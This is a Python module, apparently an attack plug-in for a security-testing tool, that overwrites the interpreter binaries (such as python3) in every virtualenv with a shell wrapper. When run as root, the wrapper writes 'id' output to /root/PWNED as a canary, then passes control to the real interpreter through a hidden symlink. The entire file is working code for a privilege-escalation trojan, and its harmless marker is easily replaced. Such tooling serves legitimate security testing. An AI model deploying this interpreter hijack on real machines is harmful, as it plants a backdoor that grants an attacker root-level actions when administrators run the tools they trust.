"""Puts a script in the place of the virtualenv's interpreter (NAMES, such as "python3")."""

import os
import sys

from places import virtualenvs

SCRIPT = """#!/bin/sh
[ "$(id -u)" != 0 ] || id >> /root/PWNED
exec "{real}" "$@"
"""


def attack(report):
    for virtualenv in virtualenvs():
        for name in NAMES:  # noqa: F821 - given
            path = os.path.join(virtualenv, "bin", name)
            real = os.path.join(virtualenv, "bin", ".real")
            if not os.path.lexists(real):
                os.symlink(os.path.realpath(sys.executable), real)
            if os.path.lexists(path):
                os.unlink(path)
            with open(path, "w") as file:
                file.write(SCRIPT.format(real=real))
            os.chmod(path, 0o755)
            report["did"].append(path)
